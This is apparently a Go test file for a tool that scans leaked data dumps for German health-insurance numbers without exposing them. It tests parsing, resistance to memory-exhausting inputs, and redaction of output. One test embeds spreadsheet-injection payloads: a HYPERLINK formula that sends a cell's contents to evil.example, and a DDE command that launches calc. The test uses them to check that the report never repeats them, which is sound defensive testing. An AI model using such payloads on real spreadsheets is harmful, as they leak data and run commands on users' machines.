package leak_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/querschott/querschott"
	"github.com/querschott/querschott/scope/leak"
)

func number(n int) string {
	first := fmt.Sprintf("X%08d", n)
	return first + string(querschott.KVNRCheckDigit(first))
}

// wrong is a number with a wrong check digit.
func wrong(n int) string {
	k := number(n)
	return k[:9] + string('0'+(k[9]-'0'+1)%10)
}

func read(t testing.TB, texts ...string) (*leak.Dump, *leak.Report) {
	t.Helper()
	d := leak.NewDump()
	for _, text := range texts {
		if err := d.Read(strings.NewReader(text)); err != nil {
			t.Fatal(err)
		}
	}
	return d, d.Report(nil)
}

// The same persons come out of every format, each once.
func TestFormats(t *testing.T) {
	a, b, c := number(1), number(2), number(3)
	for name, text := range map[string]string{
		"csv":               "id;Name;KVNR\n1;Meier;" + a + "\n2;\"Ho;se\";" + b + "\n3;Kurz;" + c + "\n1;Meier;" + a + "\n",
		"csv, no heading":   "1,Meier," + a + "\r\n2,\"a \"\"b\"\", c\"," + b + "\r\n3,x," + strings.ToLower(c) + "\r\n3,x," + c + "\r\n",
		"tabs":              "kvnr\tname\n" + a + "\tx\n" + b + "\ty\n" + c + "\tz\n" + a + "\tx",
		"list":              a + "\n " + b + " \n" + c + "\n" + a + "\n",
		"text":              "we have " + a + ", (" + b + ") and\n\"" + c + "\"/" + a + "\n",
		"ndjson":            `{"kvnr":"` + a + `","name":"\u00c4\"x"}` + "\n" + `{"name":"y","kvnr":"` + b + `"}` + "\n" + `{"kvnr":"` + c + `"}` + "\n" + `{"kvnr":"` + a + `"}`,
		"json":              `{"data":[{"kvnr":"` + a + `","address":{"street":"x","n":[1,2]}},{"kvnr":"` + b + `"}],"more":{"rows":[{"p":{"id":"` + c + `"},"x":null},{"kvnr":"` + a + `"}]}}`,
		"json list":         `["` + a + `","` + b + `","` + c + `","` + a + `"]`,
		"json, then a list": "{}\n" + a + "\n\"" + b + "\"\nsee " + c + "\n" + a,
		"sql":               "-- a dump (\nCREATE TABLE x (kvnr char(10), n text);\nINSERT INTO `x` (`n`,`kvnr`) VALUES ('it''s (a) \\' row','" + a + "'),(NULL,'" + b + "');\ninsert into x values ('" + c + "', lower('X')), ('" + a + "',1);",
		"utf-8 with a mark": "\xef\xbb\xbfkvnr;x\n" + a + ";1\n" + b + ";2\n" + c + ";3\n" + a + ";1\n",
	} {
		d, r := read(t, text)
		if r.Rows != 4 || r.Persons != 3 || len(d.Numbers()) != 3 || d.Numbers()[0].Reveal() != a || r.Files[0].Wrong != 0 {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

// A dump may have a statement for each row, and name no column: all rows are read, and two tables are not taken for one.
func TestStatementForEachRow(t *testing.T) {
	var b strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&b, "INSERT INTO public.users VALUES (%d, '%s', 'x');\nINSERT INTO `orders` VALUES (%d, 'B%09d', 'x');\n", i, number(i), i, i*7919)
	}
	_, r := read(t, b.String())
	if r.Rows != 3000 || r.Persons != 3000 || r.Unreadable != 3000 || r.Files[0].Foreign != 1 {
		t.Errorf("%+v", r)
	}
}

// A column of numbers that only look like persons' numbers gives nobody; a typing error among them is counted.
func TestForeignDigits(t *testing.T) {
	var b strings.Builder
	b.WriteString("order;kvnr\n")
	for i := range 5000 {
		kvnr := number(i)
		if i%100 == 0 {
			kvnr = wrong(i)
		}
		fmt.Fprintf(&b, "B%09d;%s\n", i*7919, kvnr)
	}
	_, r := read(t, b.String())
	if r.Persons != 4950 || r.Files[0].Wrong != 50 || r.Files[0].Foreign != 1 || r.Unreadable != 50 {
		t.Errorf("%+v", r)
	}
}

func TestSeveralFiles(t *testing.T) {
	_, r := read(t, number(1)+"\n"+number(2)+"\n", `[{"kvnr":"`+number(2)+`"},{"kvnr":"`+number(3)+`"}]`)
	if r.Rows != 4 || r.Persons != 3 || r.Files[1].Persons != 2 || r.Files[1].Fresh != 1 || r.Unknown != 3 {
		t.Errorf("%+v", r)
	}
}

// endless repeats a text up to a size.
type endless struct {
	text string
	left int
	at   int // in the text
}

func (e *endless) Read(b []byte) (int, error) {
	if e.left <= 0 {
		return 0, io.EOF
	}
	n := 0
	for n < len(b) && e.left > 0 {
		k := copy(b[n:min(len(b), n+e.left)], e.text[e.at:])
		n, e.left, e.at = n+k, e.left-k, (e.at+k)%len(e.text)
	}
	return n, nil
}

// What is meant to break the reader costs a bounded amount of memory, is counted, and hides nothing behind it.
func TestHostileDumps(t *testing.T) {
	size := 1 << 30
	if testing.Short() {
		size = 1 << 26
	}
	k := number(7)
	for name, r := range map[string]io.Reader{
		"a line without an end":    io.MultiReader(strings.NewReader("kvnr;x\n1;"), &endless{text: "xxxxxxxx", left: size}, strings.NewReader("\n"+k+";1\n")),
		"a string without an end":  io.MultiReader(strings.NewReader(`{"a":"`), &endless{text: "xxxxxxxx", left: size / 16}, strings.NewReader(`"}`+"\n"+`{"kvnr":"`+k+`"}`)),
		"deep JSON":                io.MultiReader(&endless{text: "[[[[[[[[", left: 1 << 24}, &endless{text: "]]]]]]]]", left: 1 << 24}, strings.NewReader(`{"kvnr":"`+k+`"}`)),
		"deep objects":             io.MultiReader(&endless{text: `{"a":`, left: 5 << 20}, strings.NewReader("1"), &endless{text: "}", left: 1 << 20}, strings.NewReader(`{"kvnr":"`+k+`"}`)),
		"JSON that is none":        strings.NewReader(`{"a":}}]` + "\n" + `{"b" !` + "\n" + `{"kvnr":"` + k + `"}`),
		"an SQL text without end":  io.MultiReader(strings.NewReader("INSERT INTO x VALUES ('"), &endless{text: "xxxxxxxx", left: size / 16}, strings.NewReader("'),('"+k+"');")),
		"an SQL row of many cells": io.MultiReader(strings.NewReader("INSERT INTO x VALUES ("), &endless{text: "1,", left: 1 << 22}, strings.NewReader("1),('"+k+"');")),
		"an SQL bracket open":      strings.NewReader("INSERT INTO x VALUES (((1;\nINSERT INTO x VALUES ('" + k + "');"),
		"a row of many cells":      io.MultiReader(strings.NewReader("kvnr;x\n"), &endless{text: "1;", left: 4096}, strings.NewReader("\n"+k+";1\n")),
		"a quote that stays open":  strings.NewReader("kvnr;x\n1;\"open\n" + k + ";1\n"),
		"zeros":                    io.MultiReader(&endless{text: "\x00\x00\x00\x00", left: 1 << 20}, strings.NewReader("\n"+k+"\n")),
	} {
		d := leak.NewDump()
		before := allocated()
		if err := d.Read(r); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		grown := allocated() - before
		rep := d.Report(nil)
		if rep.Persons != 1 || rep.Unreadable == 0 || grown > 256<<20 {
			t.Errorf("%s: %d persons, %d unreadable, %d MiB", name, rep.Persons, rep.Unreadable, grown>>20)
		}
	}
}

// Nothing that a dump says comes out: no number, no name of a column, no formula for a spreadsheet. The dump itself cannot be written.
func TestNothingOfADumpIsShown(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example?x="&A1)`
	d, r := read(t, "kvnr;=cmd|'/c calc'!A0;name\n"+number(1)+";"+formula+";@SUM(1)\n", `{"kvnr":"`+number(2)+`","=1+1":"\u001b[2J"}`)
	text, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{number(1), number(2), "HYPERLINK", "cmd", "=", "@SUM", "\\u001b"} {
		if bytes.Contains(text, []byte(bad)) {
			t.Errorf("the report has %q: %s", bad, text)
		}
	}
	if _, err := json.Marshal(d); err == nil {
		t.Error("a dump was written")
	}
	if text := fmt.Sprintf("%v %+v %#v", d.Numbers(), d.Numbers(), d.Numbers()); strings.Contains(text, number(1)) {
		t.Error("a number is printed")
	}
	kept := d.Numbers()
	d.Forget()
	if len(d.Numbers()) != 0 || kept[0] != "" {
		t.Error("numbers are left")
	}
}

func FuzzRead(f *testing.F) {
	for _, seed := range []string{
		"kvnr;x\n" + number(1) + ";1\n", `{"kvnr":"` + number(1) + `","a":[1,{"b":null}]}`, "INSERT INTO x (kvnr) VALUES ('" + number(1) + "'),(1,(2));",
		number(1) + "\n" + wrong(2), `[["` + number(1) + `"]]`, "\"", "INSERT INTO x VALUES ('\\", `{"\u12`, "/*", "INSERT INTO --",
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		d := leak.NewDump()
		if err := d.ReadHistory(strings.NewReader("kvnr,field,value,valid_from,valid_to\n" + number(1) + ",name,a,2021-01-01,2021-02-01\n")); err != nil {
			t.Fatal(err)
		}
		if err := d.Read(bytes.NewReader(text)); err != nil {
			t.Fatal(err)
		}
		r := d.Report(nil)
		for _, n := range d.Numbers() {
			if _, err := querschott.ParseKVNR(n.Reveal()); err != nil {
				t.Error("a number with a wrong check digit is a person")
			}
			if !bytes.Contains(bytes.ToUpper(text), []byte(n.Reveal()[1:])) && !bytes.Contains(text, []byte(`\`)) && !bytes.Contains(text, []byte(`""`)) {
				t.Error("a person was found who is not in the text")
			}
		}
		if uint64(r.Persons) > r.Rows*512 || r.Files[0].Bytes != uint64(len(text)) {
			t.Errorf("%+v", r)
		}
	})
}

func FuzzHistory(f *testing.F) {
	f.Add([]byte("kvnr,field,value,valid_from,valid_to,insurer\n" + number(1) + ",name,a,2021-01-01,2021-02-01,109500969\n"))
	f.Add([]byte(`{"kvnr":"` + number(1) + `","field":"card_id","value":7,"valid_from":null,"valid_to":"2021-02-01T00:00:00Z"}`))
	f.Fuzz(func(_ *testing.T, text []byte) {
		_ = leak.NewDump().ReadHistory(bytes.NewReader(text))
	})
}
